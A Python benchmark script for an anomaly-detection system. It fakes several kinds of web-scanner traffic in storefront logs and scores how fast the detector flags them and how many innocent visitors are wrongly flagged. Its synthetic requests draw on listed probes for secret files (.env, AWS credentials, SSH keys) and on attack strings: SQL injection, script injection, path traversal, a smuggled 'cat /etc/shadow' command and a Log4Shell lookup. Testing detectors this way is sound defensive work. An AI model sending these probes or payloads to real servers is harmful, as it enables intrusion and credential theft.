"""How many scanners of each kind are found, how soon, and whether anybody else is taken for one.

`python -m benchmarks.scanners --seeds 5` stages each kind among the producer's visitors, from the
twentieth minute of a new lake on, so that little is known of the others.
"""

from __future__ import annotations

import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from random import Random
from statistics import median
from urllib.parse import quote

import click
import msgspec
from rich.console import Console
from rich.table import Table

from anomaly.addresses.fold import SCANNING, SPREAD
from anomaly.commands.series import constants
from anomaly.engine.incident import Incident
from anomaly.lake.detection import Detection, prepare_tables
from benchmarks.sql import LIMITS, brought, raw
from benchmarks.staged import MINUTE, Show
from lakehouse.decode import decode
from lakehouse.event.routes import template
from lakehouse.paths import Places
from lakehouse.settings import Anomaly
from lakehouse.store import Key, Writer
from lakehouse.tables.catalog import LOGS
from lakehouse.tables.rollups import MINUTES
from lakehouse.windows.close import close
from producer.traffic.clock import stamp

BAD, PROXY = "203.0.113.9", "198.51.100.1"
BEGIN, LONG, AFTER = 20, 20, 5
BROWSER = "Mozilla/5.0 (X11; Linux x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0"
PAGES = ("/", "/api/items/{}", "/api/search?q={}", "/cart", "/account", "/help/{}", "/api/orders")
FILES = """/.env /.git/config /.git/HEAD /.aws/credentials /wp-config.php.bak /phpinfo.php
/.htpasswd /backup.zip /phpmyadmin/index.php /server-status /actuator/env /actuator/heapdump
/cgi-bin/luci /dump.sql /.svn/entries /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/config.old /id_rsa /solr/admin/info/system /db.sqlite /manager/html /HNAP1 /debug/pprof
/site.tar.gz"""
ATTACKS = """' OR 1=1 --|1 UNION SELECT {} FROM users|<script>alert({})</script>
|../../../../etc/passwd|; cat /etc/shadow|${{jndi:ldap://x/{}}}"""
SYLLABLES = [f"{first}{second}" for first in "bdklmn" for second in "aeio"]


@dataclass(frozen=True)
class Kind:
    """What it asks for a minute, and of what: shares of files, attacks and pages; else words.

    `answers` are statuses with their weights, `young` whether it begins with the lake.
    """

    rate: float
    files: float = 0.0
    attacks: float = 0.0
    pages: float = 0.0
    answers: tuple[tuple[int, float], ...] = ((404, 1.0),)
    method: str = "GET"
    agent: str = BROWSER
    addresses: int = 1
    minutes: int = LONG
    young: bool = False
    behind: int = 0


MIXED = ((302, 0.5), (200, 0.35), (500, 0.11), (404, 0.04))
KINDS: dict[str, Kind] = {
    "loud, all 404": Kind(200),
    "slow, one in 30 s": Kind(2, files=0.3, minutes=40),
    "spread over 50 addresses": Kind(60, files=0.5, addresses=50),
    "behind a proxy of many people": Kind(10, files=0.3, behind=100),
    "mostly 200": Kind(150, files=0.05, answers=((200, 0.95), (404, 0.05))),
    "mostly 500": Kind(40, attacks=0.2, answers=((500, 0.8), (200, 0.2))),
    "half redirects, 4 % 404": Kind(217, pages=0.4, answers=MIXED),
    "one page, attacks, all 200": Kind(20, attacks=1.0, answers=((200, 1.0),)),
    "writes": Kind(60, method="POST", answers=((200, 0.5), (403, 0.3), (500, 0.2))),
    "first minutes, most of the traffic": Kind(217, pages=0.4, answers=MIXED, young=True),
    "a scanner by its agent": Kind(5, agent="Mozilla/5.00 (Nikto/2.5.0)", pages=0.5),
}


@click.command()
@click.option("--seeds", default=5, help="How often each kind is staged.")
@click.option("--rate", default=5.0, help="Events a second of the visitors.")
def scanners(seeds: int, rate: float) -> None:
    """Prints a row a kind: how many were found, after how many seconds, and what was false."""
    table = Table("scanner", "found", "seconds, median", "at most", "false")
    for name, kind in KINDS.items():
        plays = [played(kind, Show(seed, 0.5 if kind.young else rate, 70)) for seed in range(seeds)]
        after = [one for one, _ in plays if one is not None]
        told = (f"{median(after):.0f}", f"{max(after):.0f}") if after else ("", "")
        false = [one for _, each in plays for one in each]
        table.add_row(name, f"{len(after)} of {seeds}", *told, str(len(false)))
        for sentence in false:
            click.echo(f"{name}: {sentence}")
    Console(width=100).print(table)


def played(
    kind: Kind, show: Show, change: Callable[[list[bytes]], list[bytes]] = list
) -> tuple[float | None, list[str]]:
    """Returns after how many seconds a scanner was found, and sentences of what was false.

    `change` may put the records in another order.
    """
    with tempfile.TemporaryDirectory() as folder:
        places = Places(folder, f"{folder}/_checkpoints")
        found = judged(places, kind, show, change)
    begin = start_of(kind, show)
    mine = [one for one in found if one.ip in (BAD, PROXY) or one.direction == SPREAD]
    named = [one for one in mine if one.direction in (SCANNING, SPREAD)]
    after = [(one.opened.timestamp() + 60) - begin / 1e6 for one in named]
    false = [one.sentence for one in found if one not in mine and not one.ip.startswith("203.0")]
    return min((one for one in after if one > 0), default=None), false


def judged(
    places: Places, kind: Kind, show: Show, change: Callable[[list[bytes]], list[bytes]] = list
) -> list[Incident]:
    """Returns the incidents of addresses in a new lake with these records."""
    prepare_tables(places, Anomaly())
    end = show.end(start_minute(kind) + kind.minutes + AFTER)
    values = change([*_visitors(kind, show, end), *_scan(kind, show)])
    when = datetime.fromtimestamp(end / 1e6, UTC)
    events = decode(raw([*values], 0, when), LIMITS).events
    Writer(places, LOGS).append(brought(events, when, 0), Key("scanners/logs", 0))
    for _ in close(places, MINUTES, when.replace(second=0, microsecond=0)):
        pass
    found = {one.incident_id: one for one in Detection(places, constants(None)).addresses()}
    return [*found.values()]


def start_minute(kind: Kind) -> int:
    """Returns the minute of the lake in which a scanner begins."""
    return 1 if kind.young else BEGIN


def start_of(kind: Kind, show: Show) -> int:
    """Returns when a scanner begins, in microseconds."""
    return show.start + start_minute(kind) * MINUTE


def _visitors(kind: Kind, show: Show, end: int) -> Iterator[bytes]:
    """Yields the producer's events; where people are behind the proxy, a share has its address."""
    random = Random(f"proxy {show.seed}")
    share = kind.behind / (60 * show.rate)
    for _, value in show.pace().up_to(end):
        if value is not None and random.random() < share:
            event = msgspec.json.decode(value)
            value = msgspec.json.encode({**event, "ip": PROXY}) if "ip" in event else value
        if value is not None:
            yield value


def _scan(kind: Kind, show: Show) -> Iterator[bytes]:
    random, start = Random(f"scan {show.seed}"), start_of(kind, show)
    count = round(kind.rate * kind.minutes)
    statuses, weights = zip(*kind.answers, strict=True)
    for n in range(count):
        at = start + int((n + random.random()) * kind.minutes * MINUTE / count)
        path = _path(kind, random)
        event = {
            "event_id": f"scan-{n}",
            "timestamp": stamp(at),
            "service": "storefront",
            "endpoint": template(path),
            "path": path,
            "method": kind.method,
            "status_code": random.choices(statuses, weights)[0],
            "ip": _address(kind, random),
            "user_agent": kind.agent,
            "response_time": 20.0,
        }
        yield msgspec.json.encode(event)


def _path(kind: Kind, random: Random) -> str:
    draw = random.random()
    if draw < kind.files:
        return random.choice(FILES.split())
    if draw < kind.files + kind.attacks:
        attack = random.choice(ATTACKS.split("|")).strip()
        return f"/search?q={quote(attack.format(random.randrange(10_000)))}"
    if draw < kind.files + kind.attacks + kind.pages:
        return random.choice(PAGES).format(random.randrange(500))
    word = "".join(random.choice(SYLLABLES) for _ in range(random.randint(2, 4)))
    return f"/{word}{random.choice(('', '.php', '/', '/index.html', '.jsp'))}"


def _address(kind: Kind, random: Random) -> str:
    if kind.behind:
        return PROXY
    return BAD if kind.addresses == 1 else f"203.0.{random.randrange(kind.addresses)}.7"


if __name__ == "__main__":
    scanners()
